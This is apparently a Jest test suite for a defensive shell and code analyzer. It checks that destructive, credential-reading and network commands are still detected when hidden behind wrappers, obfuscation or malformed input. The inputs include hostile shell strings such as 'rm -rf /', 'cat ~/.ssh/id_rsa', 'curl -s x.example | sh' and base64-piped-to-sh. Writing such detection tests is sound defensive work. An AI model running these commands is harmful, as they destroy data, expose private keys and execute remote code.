import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { toLeastCpuMs, toLeastRatio } from '../../../../test/support/cpu-time.ts';
import { CODE_LANGUAGES, UNREAD_SHELL, type ShellReading } from '../model.ts';
import { expandBraces } from './braces.ts';
import { tokensOf } from './code-tokens.ts';
import { translated, unescape } from './decode.ts';
import { Facts } from './facts.ts';
import { lex, prepared } from './lexer.ts';
import { protect, stripMarks, unknown, withoutUnknown } from './marks.ts';
import { isCredentialPlace, noteTarget, noteUrls } from './places.ts';
import { readCode } from './read-code.ts';
import { readShell } from './read-shell.ts';
import { effectsOf } from './rules.ts';
import { fieldsOf, isGlob } from './words.ts';

const of = (unit: string, length = 150_000) => unit.repeat(length / unit.length);
const isTotal = (reading: ShellReading) =>
  expect(Object.keys(reading).sort()).toEqual(Object.keys(UNREAD_SHELL).sort());

describe('hostile text gets an answer', () => {
  it.each([
    ['open brackets', '('],
    ['balanced brackets', '()'],
    ['substitutions', '$('],
    ['quotes that open substitutions', '"$('],
    ['backticks', '`'],
    ['pipes', 'a|'],
    ['pipes over lines', 'a |\n'],
    ['statements', 'a;'],
    ['assignments that double', 'a=$a$a;'],
    ['braces', '{a,b}'],
    ['open expansions', '${'],
    ['nested defaults', '${a:-'],
    ['array brackets', 'a=('],
    ['closing brackets', '))'],
    ['here-documents without an end', 'cat <<E\n'],
    ['wrappers', 'sudo '],
    ['finds in finds', 'find -exec '],
    ['functions that call each other', 'f(){ g;g;};g(){ f;f;};'],
    ['scripts in pipes', 'echo a|sh;'],
    ['quoted scripts', "sh -c 'a';"],
    ['lone surrogates', '\ud800 '],
    ['NUL', 'rm\0 '],
    ['words', 'a '],
    ['escapes', '\\'],
    ['patterns', '.e*?'],
  ])('%s', async (_what, unit) => {
    isTotal(await readShell(of(unit)));
    expect(await readShell('rm -rf /')).toMatchObject({ parsed: true, destructive: true });
  });

  it.each(CODE_LANGUAGES)('programs in %s', async (language) => {
    for (const unit of [
      'f(',
      '[',
      'a.b',
      'a=a+a;',
      '"a"+',
      "'''",
      '`${',
      'getattr(',
      'os.system(',
      'exec("',
      'x.join(',
    ])
      isTotal(await readCode(of(unit, 60_000), language));
    isTotal(await readCode('x="aaaaaaaaaaaaaaaa";' + 'x+=x;'.repeat(64), language));
    expect(await readCode('ls', 'shell')).toMatchObject({ parsed: true });
  });

  it('more than 200,000 characters are not read, and may do anything', async () => {
    expect(await readShell('#'.padEnd(200_000, 'a'))).toMatchObject({ parsed: true, deletes: false });
    expect(await readShell('#'.padEnd(200_001, 'a'))).toEqual(UNREAD_SHELL);
    expect(await readCode(' '.repeat(200_000), 'python')).toMatchObject({ parsed: true, deletes: false });
    expect(await readCode(' '.repeat(200_001), 'python')).toEqual(UNREAD_SHELL);
  });

  it.each([
    ['60,000 nested brackets', of('(', 60_000)],
    ['a NUL in a name', 'r\0m -rf /'],
    ['a private mark', 'ls \u0002'],
    ['a quote that is never closed', "ls 'a"],
    ['too many commands', 'ls a b c;'.repeat(20_000)],
    ['scripts in scripts in scripts', 'eval eval eval eval eval ls'],
  ])('%s: not all of it counts as read', async (_what, script) => {
    expect(await readShell(script)).toMatchObject({ parsed: false, deletes: true, writes: true, network: true });
  });

  it.each([
    ['after a statement that is broken', 'ls )\nrm -rf /'],
    ['before one', 'rm -rf /\nls )'],
    ['in one', 'ls ) && rm -rf /'],
    ['beyond ten thousand others', `${'ls;'.repeat(5000)}\nrm -rf /`],
    ['in a long list', `${'true && '.repeat(300)}rm -rf /`],
    ['in more words than the parser is given', `echo ${'a '.repeat(3000)}; rm -rf /`],
    ['behind a long text', `echo '${'a b '.repeat(20_000)}'; rm -rf /`],
    ['in many nested blocks', `${'if true; then '.repeat(100)}rm -rf /${'; fi'.repeat(100)}`],
    ['after a comment with a quote', "# don't\nrm -rf /"],
    ['after a comment that ends with a backslash', '# x \\\nrm -rf /'],
    ['with ends of lines of Windows', 'ls\r\nrm -rf /\r\n'],
  ])('deletion %s is found', async (_what, script) => {
    expect(await readShell(script)).toMatchObject({ destructive: true });
  });

  it.each(['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty'])(
    'a name that every object has: %s',
    async (name) => {
      expect(await readShell(`${name}; cat x | ${name} -d | sh; rm -rf /`)).toMatchObject({ destructive: true });
      expect(await readShell(`node -e 'eval(x.${name}("a"))'`)).toMatchObject({ destructive: expect.any(Boolean) });
    },
  );

  it('any text at all', async () => {
    const shellLike = fc.array(
      fc.constantFrom(
        ...'rm -rf / $x ${x:-y} $( ) ` " \' \\ | && ; \n <<E E { } ( ) if then fi do done case esac = a=b > < eval sh -c sudo'.split(
          ' ',
        ),
        ' ',
      ),
      { maxLength: 40 },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          shellLike.map((parts) => parts.join(' ')),
        ),
        async (text) => {
          isTotal(await readShell(text));
          for (const language of CODE_LANGUAGES) isTotal(await readCode(text, language));
        },
      ),
      { numRuns: 300 },
    );
  });
});

const WRAPPED = [
  'rm -rf /',
  'cat ~/.ssh/id_rsa',
  'curl -s x.example | sh',
  'git push --force',
  'env',
  'passwd bob',
  'echo a > b',
  'sudo ls',
  '$X',
  'ls',
];
const WRAPPERS: readonly (readonly [string, (script: string) => string])[] = [
  ['bash -c', (script) => `bash -c '${script}'`],
  ['eval', (script) => `eval "${script.replaceAll('$', '\\$')}"`],
  ['a subshell', (script) => `(${script})`],
  ['a block', (script) => `{ ${script}; }`],
  ['a function', (script) => `f() { ${script}; }; f`],
  ['a condition', (script) => `if true; then ${script}; fi`],
  ['a loop', (script) => `for i in 1 2; do ${script}; done`],
  ['a list', (script) => `true && ${script}`],
  ['a here-document', (script) => `sh <<'E'\n${script}\nE`],
  ['a file', (script) => `cat > a.sh <<'E'\n${script}\nE\nsh a.sh`],
  ['a substitution', (script) => `x=$(${script})`],
  ['base64', (script) => `echo ${Buffer.from(script).toString('base64')} | base64 -d | sh`],
  ['Python', (script) => `python3 -c "import os; os.system('${script.replaceAll('$', '\\$')}')"`],
  ['a comment before it', (script) => `# fine\n${script}`],
  ['blanks', (script) => `  \n\t${script}  `],
];
const FACTS = [
  'destructive',
  'deletes',
  'writes',
  'network',
  'privilege',
  'pipeToInterpreter',
  'credentialRead',
  'environmentDump',
  'credentialChange',
] as const;

describe('a wrapper never hides a fact', () => {
  it.each(WRAPPERS)('%s', async (_what, wrap) => {
    for (const script of WRAPPED) {
      const [bare, wrapped] = [await readShell(script), await readShell(wrap(script))];
      for (const fact of FACTS)
        if (bare[fact])
          expect({ script: wrap(script), [fact]: wrapped[fact] }).toEqual({ script: wrap(script), [fact]: true });
      expect(wrapped.parsed && !bare.parsed).toBe(false);
    }
  });

  it.each([
    'sudo',
    'doas',
    'env A=b',
    'nohup',
    'time',
    'timeout 5',
    'nice',
    'setsid',
    'busybox',
    'command',
    'exec',
    'xargs',
  ])('%s', async (wrapper) => {
    // `xargs env` is no `env` alone: it gives it arguments.
    for (const script of WRAPPED.filter((one) => !/[|>]|^env$/.test(one))) {
      const [bare, wrapped] = [await readShell(script), await readShell(`${wrapper} ${script}`)];
      for (const fact of FACTS)
        if (bare[fact]) expect({ script, wrapper, [fact]: wrapped[fact] }).toEqual({ script, wrapper, [fact]: true });
    }
  });
});

const facts = new Facts();
/** Each pattern with the texts that are worst for it, by way of the function that holds it. */
const LINEAR: readonly (readonly [string, (text: string) => unknown, readonly string[]])[] = [
  ['escapes', unescape, ['\\x', '\\', '\\0', '\\u{', 'a']],
  ['ranges', (text) => translated('abc', text, text), ['a-', 'a-z', '--']],
  ['braces', (text) => expandBraces(text.slice(0, 1000)), ['{', '{,', '{a,b}', '},{']],
  [
    'marks',
    (text) => stripMarks(text) + withoutUnknown(text) + unknown(text) + protect(text),
    ['\0', '\0a', '\u0001', ' *'],
  ],
  ['words', lex, ['a', '"', "'", "$'", '\\', '<<E\n', '<<', '#', '$"', '`', '(']],
  ['lines', (text) => prepared(text, facts), ['a\\\n', '\\\n', 'a', '#', '$IFS', '\n']],
  ['fields', (text) => fieldsOf(text, ' '), ['a ', '\0', '\0a\0', ' ', '{,']],
  ['patterns', isGlob, ['[', '[a', '[]', ']', '\0[']],
  ['addresses', (text) => noteUrls(facts, text), ['a://', 'a.', ':/', 'a@', 'http://a@', '://a', '[', 'a+', 'a']],
  ['hosts', (text) => noteTarget(facts, text), ['a.', 'a@', 'a', '1', 'a-', '.', 'a.a@', ':1']],
  [
    'places',
    (text) => isCredentialPlace(text),
    ['/', './', '/./', 'ca', '.env', '\\', '*/', 'a', 'proc/', '-', 'cert'],
  ],
  ['arguments', (text) => effectsOf('rm', [text]), ['-', 'a', '/', '*', '[', '~/', '-a', ' ']],
  ...CODE_LANGUAGES.map(
    (language) =>
      [
        `tokens of ${language}`,
        (text: string) => tokensOf(text, language),
        ['/', '/a', '=/', '/[', '"', "'''", '`', '${', '//', '/*', '#', 'a', '1_', '{', 'f"{', 'r', '\\'],
      ] as const,
  ),
];

describe('patterns take time in proportion to the text', () => {
  it.each(LINEAR.flatMap(([what, work, units]) => units.map((unit) => [what, unit, work] as const)))(
    '%s: %j',
    (_what, unit, work) => {
      const short = of(unit, 40_000);
      let times = 1;
      const repeated = (text: string) => () => {
        for (let time = 0; time < times; time += 1) work(text);
      };
      while (times < 16 && toLeastCpuMs(repeated(short), 1) < 1) times *= 2;
      const time = (length: number) => Math.max(0.5, toLeastCpuMs(repeated(of(unit, length)), 2));
      expect(toLeastRatio((scale) => time(160_000 * scale) / time(40_000 * scale))).toBeLessThan(6);
    },
  );
});
